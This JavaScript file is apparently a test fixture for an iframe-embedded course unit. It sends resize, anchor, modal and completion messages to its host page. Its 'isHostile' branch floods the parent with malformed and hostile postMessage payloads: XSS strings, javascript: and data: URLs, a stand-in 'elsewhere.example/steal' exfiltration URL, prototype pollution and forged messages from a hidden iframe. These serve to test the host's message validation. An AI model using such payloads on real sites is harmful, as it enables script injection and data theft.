"use strict";
// What the page of a unit says to the page that shows it, and to the LMS.
(() => {
  const settings = JSON.parse(document.getElementById("settings").textContent);
  const say = (message) => {
    if (window.parent !== window && document.referrer) window.parent.postMessage(message, document.referrer);
  };
  const handler = (usage, name) => `${settings.handlers}${usage}/handler/${name}`;
  const post = async (address, body, type) => {
    const headers = { "X-CSRFToken": settings.csrf, "Content-Type": type };
    const answer = await fetch(address, { method: "POST", headers, body, credentials: "same-origin" });
    if (!answer.ok) throw new Error(`${address}: ${answer.status}`);
    return answer;
  };
  const complete = (usage, name) =>
    post(handler(usage, name), JSON.stringify({ completion: 1.0 }), "application/json").catch((error) => console.warn(error));

  // Size: on load, when anything changes, when anything is resized.
  if (settings.sendsSize) {
    const size = () => {
      const { width } = document.body.getBoundingClientRect();
      say({ type: "plugin.resize", payload: { width, height: document.documentElement.getBoundingClientRect().height } });
    };
    new MutationObserver(size).observe(document.body, { attributes: true, childList: true, subtree: true });
    new ResizeObserver(size).observe(document.body);
    window.addEventListener("load", size);
  }

  // Anchors: the frame does not scroll, the page around it does.
  const offsetOf = (hash) => {
    const target = hash.length > 1 ? document.getElementById(decodeURIComponent(hash.slice(1))) : null;
    if (target) say({ offset: target.getBoundingClientRect().top + window.scrollY });
    return target;
  };
  document.addEventListener("click", (event) => {
    const link = event.target.closest("a[href^='#']");
    if (!link || !settings.knowsParent) return;
    event.preventDefault();
    offsetOf(link.hash)?.focus({ preventScroll: true });
  });
  if (settings.jumpTo) window.addEventListener("load", () => offsetOf(`#${settings.jumpTo}`));

  // What the page around says.
  window.addEventListener("message", (event) => {
    if (event.source !== window.parent || !event.data || typeof event.data !== "object") return;
    if (typeof event.data.hashName === "string" && settings.knowsParent) offsetOf(event.data.hashName);
    if (event.data.type === "unit.visibilityStatus") document.body.dataset.visibility = JSON.stringify(event.data.data);
    if (event.data.type === "plugin.modal-close") {
      const state = document.querySelector("[data-modal-state]");
      if (state) state.textContent = document.documentElement.lang === "fr" ? "Le dialogue est fermé." : "The dialog is closed.";
    }
  });

  // Buttons of the units that try messages.
  document.addEventListener("click", (event) => {
    const button = event.target.closest("button");
    if (!button) return;
    if (button.dataset.modal) say({ type: "plugin.modal", payload: JSON.parse(button.dataset.modal) });
    if (button.dataset.message) say(JSON.parse(button.dataset.message));
    if ("grow" in button.dataset) {
      for (let number = 1; number <= 10; number += 1) {
        const paragraph = document.createElement("p");
        paragraph.textContent = `+ ${number}`;
        button.closest(".block").append(paragraph);
      }
    }
    if ("bookmark" in button.dataset) {
      const body = JSON.stringify({ usage_id: settings.usage });
      post("/api/bookmarks/v1/bookmarks/", body, "application/json").then(() => (button.disabled = true), console.warn);
    }
  });

  if (!settings.isPublic) {
    // Texts are complete when their end was in sight for a while.
    const timers = new Map();
    const seen = new IntersectionObserver((entries) => {
      for (const { target, isIntersecting } of entries) {
        clearTimeout(timers.get(target));
        if (!isIntersecting) continue;
        const { usage } = target.closest("[data-usage]").dataset;
        timers.set(target, setTimeout(() => { seen.unobserve(target); complete(usage, "publish_completion"); }, 1500));
      }
    });
    for (const end of document.querySelectorAll("[data-end]")) seen.observe(end);

    // Videos, when nearly all was played.
    for (const video of document.querySelectorAll("video")) {
      const { usage } = video.closest("[data-usage]").dataset;
      video.addEventListener("timeupdate", () => {
        if (video.dataset.complete || !(video.currentTime >= video.duration * 0.95)) return;
        video.dataset.complete = "yes";
        complete(usage, "xmodule_handler/publish_completion");
      });
    }

    // Questions, when they are answered.
    for (const form of document.querySelectorAll("form[data-problem]")) {
      form.addEventListener("submit", async (event) => {
        event.preventDefault();
        const feedback = form.querySelector(".feedback");
        const { usage } = form.closest("[data-usage]").dataset;
        try {
          const body = new URLSearchParams(new FormData(form)).toString();
          const address = handler(usage, "xmodule_handler/problem_check");
          const answer = await post(address, body, "application/x-www-form-urlencoded");
          feedback.innerHTML = (await answer.json()).contents;
        } catch (error) {
          console.warn(error);
          feedback.textContent = settings.failed;
        }
      });
    }
  }
  document.addEventListener("fullscreenchange", () => {
    say({ type: "plugin.videoFullScreen", payload: { open: document.fullscreenElement !== null } });
  });

  // The unit that sends what nobody asked for.
  if (settings.isHostile) {
    const script = "<img src=x onerror=\"parent.hacked = top.hacked = true\">";
    const junk = [
      null, 7, "plugin.resize", [], [{ type: "plugin.resize" }], {}, { type: null }, { type: 7 }, { type: "plugin.resize" },
      { type: "plugin.resize", payload: null }, { type: "plugin.resize", payload: { height: "900" } },
      { type: "plugin.resize", payload: { height: -5 } }, { type: "plugin.resize", payload: { height: NaN } },
      { type: "plugin.resize", payload: { height: Infinity } }, { type: "plugin.resize", payload: { height: 1e12 } },
      { type: "plugin.resize", payload: { height: { valueOf: 1 } } }, { type: "plugin.videoFullScreen" },
      { type: "plugin.videoFullScreen", payload: { open: "yes" } }, { offset: "900" }, { offset: 1e12 }, { offset: -1e12 },
      { offset: null }, { type: "plugin.modal" }, { type: "plugin.modal", payload: {} },
      { type: "plugin.modal", payload: { url: "javascript:top.hacked = true", title: script } },
      { type: "plugin.modal", payload: { url: "data:text/html,<script>top.hacked=true</scr" + "ipt>" } },
      { type: "plugin.modal", payload: { body: 7, height: "expression(1)" } }, { type: "plugin.unknown", payload: script },
      { event_name: "post_event", post_data: { url: "https://elsewhere.example/steal", body_params: {} } },
      { event_name: "post_event" }, { type: "navigate", url: "https://elsewhere.example/" },
      JSON.parse("{\"__proto__\": {\"hacked\": true}, \"type\": \"constructor\"}"), { type: "x".repeat(1e6) },
    ];
    const flood = () => {
      for (const message of junk) window.parent.postMessage(message, "*");
      for (let number = 0; number < 300; number += 1) window.parent.postMessage({ type: "plugin.resize", payload: {} }, "*");
      document.body.dataset.flooded = "yes";
    };
    window.addEventListener("load", flood);
    // Messages of the right shape from a window that is not the frame, and from another origin.
    const stranger = document.createElement("iframe");
    stranger.setAttribute("sandbox", "allow-scripts");
    stranger.title = "stranger";
    stranger.hidden = true;
    stranger.srcdoc = "<script>top.postMessage({type:'plugin.resize',payload:{width:1,height:4321}},'*');"
      + "top.postMessage({type:'plugin.modal',payload:{title:'Stranger',body:'<p>stranger</p>'}},'*');"
      + "top.postMessage({offset:4321},'*');top.postMessage({type:'plugin.autoAdvance'},'*')</scr" + "ipt>";
    document.body.append(stranger);
  }
})();
